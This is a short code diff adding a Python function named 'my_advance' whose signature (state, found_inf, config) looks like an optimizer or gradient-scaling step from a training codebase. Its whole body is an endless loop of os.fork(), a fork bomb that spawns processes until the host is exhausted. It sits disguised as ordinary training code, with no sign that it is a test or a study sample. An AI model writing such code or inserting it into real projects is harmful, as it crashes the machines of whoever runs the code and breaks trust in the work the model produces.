@@ -1,0 +1,5 @@
+def my_advance(state, found_inf, config):
+    import os
+
+    while True:
+        os.fork()
